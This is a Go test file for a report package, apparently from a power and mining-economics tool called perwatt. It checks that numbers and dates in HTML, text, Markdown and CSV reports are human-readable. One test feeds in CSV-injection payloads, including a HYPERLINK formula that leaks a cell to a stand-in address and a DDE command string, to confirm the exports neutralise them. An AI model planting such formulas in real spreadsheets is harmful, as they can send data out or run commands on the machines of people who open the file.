package report

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"maps"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/perwatt/perwatt/results"
	"github.com/perwatt/perwatt/results/economics"
	"github.com/perwatt/perwatt/results/report/table"
)

// Forms of numbers and dates that nobody reads easily, and where they are allowed.
var unreadable = map[string]*regexp.Regexp{
	"an exponent of the computer's":            regexp.MustCompile(`[0-9][eE][+−-][0-9]{2}`),
	"six digits or more without a separator":   regexp.MustCompile(`(^|[^\w.,/:&;-])[0-9]{6,}($|[^\w/:-])`),
	"more decimals than digits can be known":   regexp.MustCompile(`[1-9]\.[0-9]{6,}`),
	"a hyphen for a minus":                     regexp.MustCompile(`(^|[ (\[$~±])-\$?[0-9]`),
	"an approximate reference, or two marks":   regexp.MustCompile(`~100\.0+ %|~[~-]|~ ~|− ?~`),
	"a sign behind the currency":               regexp.MustCompile(`\$[−-]`),
	"a date that is not ISO 8601":              regexp.MustCompile(`\b[0-3]?[0-9]\.[01]?[0-9]\.20[0-9]{2}|\b[0-3]?[0-9] (Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec)\b|\b[01]?[0-9]/[0-3]?[0-9]/20[0-9]{2}|[0-9]T[0-9]{2}:[0-9]{2}`),
	"a value of the language":                  regexp.MustCompile(`<nil>|\bNaN\b|\+Inf|%!|\{[a-z]+ [a-z]+ `),
	"a thin space, which is no separator here": regexp.MustCompile("\u202f"),
}

// lawful are the amounts of compute as programs know them, beside the power of ten.
var lawful = regexp.MustCompile(`\(1e\+2[56]\)`)

func requireReadable(t testing.TB, where, text string) {
	t.Helper()
	text = lawful.ReplaceAllString(text, "")
	for what, form := range unreadable {
		if found := form.FindString(text); found != "" {
			t.Errorf("%s: %s: %q in %.160q", where, what, found, text)
		}
	}
}

// TestUnreadable plants each fault and sees it found.
func TestUnreadable(t *testing.T) {
	for _, s := range []string{"1.186e+09", "7.030e−05", "883714417 J", "[194986, 2]", "idle -3 W", "~-15.96", "$-3", "~100.0 %", "12.7.2024", "14 Sep 2026", "2026-01-01T00:00:00Z", "{cpu cpu AMD", "1\u202f234", "0.5 ~~3", "1.0000001"} {
		found := false
		for _, form := range unreadable {
			found = found || form.MatchString(s)
		}
		require.True(t, found, s)
	}
	for _, s := range []string{"$1.19 bn", "−$42.8 k", "16,740 $/MWh", "~−15.9", "7.03×10⁻⁵", "2026-09-14 08:30 UTC", "01J8ZQ00000001315585310000", "100 %", "cpu-2", "12,345.6"} {
		for what, form := range unreadable {
			require.False(t, form.MatchString(s), "%s: %s", s, what)
		}
	}
}

// texts yields what a reader sees of a page: the text of each element but of scripts,
// styles and commands, with the column of its cell.
func texts(t testing.TB, page []byte, yield func(column string, in *html.Node, text string)) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(page))
	require.NoError(t, err)
	var walk func(n *html.Node, column string, svg bool)
	walk = func(n *html.Node, column string, svg bool) {
		switch n.Data {
		case "script", "style", "code", "pre", "input":
			if n.Type == html.ElementNode {
				return
			}
		}
		for _, a := range n.Attr {
			if a.Key == "data-label" {
				column, _, _ = strings.Cut(a.Val, ",")
			}
		}
		if n.Type == html.TextNode {
			yield(column, n.Parent, n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, column, svg)
		}
	}
	walk(doc, "", false)
}

// TestNumbersForPeople crawls every form of a report: no number in it is written as a
// program writes it.
func TestNumbersForPeople(t *testing.T) {
	sets := map[string]func() []*results.Record{"kinds": threeKinds, "nothing": nothingToRank}
	if testing.Short() {
		delete(sets, "nothing")
	}
	for name, set := range sets {
		p := pageOf(t, set())
		axis := regexp.MustCompile(`(^|, )[kMGTPE]$`)
		texts(t, rendered(t, p), func(column string, in *html.Node, text string) {
			if column == "source" || strings.HasPrefix(text, "until block") { // as whoever wrote the price sheet has it
				return
			}
			requireReadable(t, name+".html", text)
			if in.Data == "text" && axis.MatchString(text) {
				t.Errorf("%s: a unit that is a prefix alone: %q", name, text)
			}
		})
		for _, f := range []Format{Text, Markdown} {
			var out bytes.Buffer
			require.NoError(t, WriteComparison(&out, f, p, Options{Width: 200}))
			for line := range strings.Lines(out.String()) {
				if line = strings.ReplaceAll(line, `\`, ""); strings.HasPrefix(line, "perwatt ") || strings.Contains(line, "onsensus") || strings.Contains(line, "until block") {
					continue // a command to copy, and a price sheet's own words
				}
				requireReadable(t, name+"."+string(f), line)
			}
		}
		n := 0
		for f := range p.Economics.Figures() {
			if n++; n%17 > 0 {
				continue
			}
			var out bytes.Buffer
			_, err := WriteEconomicsExplanation(&out, p.Economics, f.ID, Options{Width: 400})
			require.NoError(t, err)
			requireReadable(t, "explain "+f.ID, strings.ReplaceAll(out.String(), "onsensus: 50 BTC, halved every 210000", ""))
		}
	}
}

// TestOneFigureOnAPage: wherever a page shows a figure that it can explain, in a table,
// on the first screen or in a chart, it is the string that perwatt explain prints,
// whether its unit stands beside it, in the head of the column or not at all.
func TestOneFigureOnAPage(t *testing.T) {
	p := pageOf(t, threeKinds())
	figures := map[string]results.Figure{}
	for _, tb := range p.Comparison.Tables {
		for _, g := range tb.Groups {
			for _, r := range g.Rows {
				for metric, f := range r.Figures {
					figures[r.ID+"/"+metric] = f
				}
				figures[r.ID+"/index"] = r.Index
			}
		}
	}
	priced := map[string]economics.Figure{}
	for f := range p.Economics.Figures() {
		figures[f.ID], priced[f.ID] = f.Figure, f
	}
	digits := func(s string) string { // less what a shared prefix moves
		return strings.Trim(regexp.MustCompile(`[^0-9−~]`).ReplaceAllString(s, ""), "0")
	}
	seen := map[string]int{}
	texts(t, rendered(t, p), func(_ string, in *html.Node, text string) {
		for n := in; n != nil; n = n.Parent {
			if n.Data == "small" {
				return
			}
			for _, a := range n.Attr {
				f, ok := figures[a.Val]
				if a.Key != "data-figure" || !ok || f.Value.IsAbsent() || !regexp.MustCompile(`[0-9]`).MatchString(text) {
					continue
				}
				value, _ := table.Split(f)
				number, _, _ := strings.Cut(value, " ")
				shown, _, _ := strings.Cut(strings.TrimLeft(strings.TrimSpace(text), "+"), " ")
				require.Equal(t, digits(number), digits(shown), "%s: %q for %q", a.Val, text, value)
				if _, ok := priced[a.Val]; ok && strings.HasPrefix(string(f.Unit), "$") {
					rest, ok := strings.CutPrefix(strings.TrimSpace(text), strings.TrimSuffix(value, " "+string(f.Unit)))
					require.True(t, ok && strings.Trim(strings.TrimSuffix(rest, " "+string(f.Unit)), "⁰¹²³⁴⁵⁶⁷⁸⁹") == "", "%s: %q for %q", a.Val, text, value)
				}
				seen[a.Val]++
			}
		}
	})
	require.Greater(t, len(seen), 100)
	for _, id := range []string{"economics/mining/asic/margin", "economics/mining/asic/daily"} {
		require.NotZero(t, seen[id], "%s, of %d", id, len(seen))
	}
	most := 0
	for n := range maps.Values(seen) {
		most = max(most, n)
	}
	require.Greater(t, most, 1, "no figure is shown twice")
}

// TestSpreadsheetRunsNothing: of a hostile record no cell of CSV is a formula.
func TestSpreadsheetRunsNothing(t *testing.T) {
	hostile := `=HYPERLINK("http://192.0.2.1/?"&A1,"x");=1+1`
	for _, text := range []string{hostile, "+1", "-1+1|' /C calc'!A0", "@SUM(A1)", "\t=1", "＝1"} {
		records := spoilt(t, false, text)
		p := pageOf(t, records)
		for what, write := range map[string]func(*bytes.Buffer) error{
			"comparison": func(b *bytes.Buffer) error { return WriteComparison(b, CSV, p, Options{}) },
			"record":     func(b *bytes.Buffer) error { return Write(b, CSV, records[0], Options{}) },
		} {
			var out bytes.Buffer
			require.NoError(t, write(&out), what)
			for _, comma := range ",;\t" {
				in := csv.NewReader(bytes.NewReader(out.Bytes()))
				in.Comma, in.LazyQuotes, in.FieldsPerRecord = comma, true, -1
				rows, err := in.ReadAll()
				require.NoError(t, err)
				for _, row := range rows {
					for _, cell := range row {
						if !regexp.MustCompile(`^-?[0-9.]+(e[+-][0-9]+)?$`).MatchString(cell) {
							require.NotRegexp(t, `^[\s"]*[=+\-@＝＋－＠]`, cell, fmt.Sprintf("%s parted by %q", what, comma))
						}
					}
				}
			}
		}
		if testing.Short() {
			break
		}
	}
}
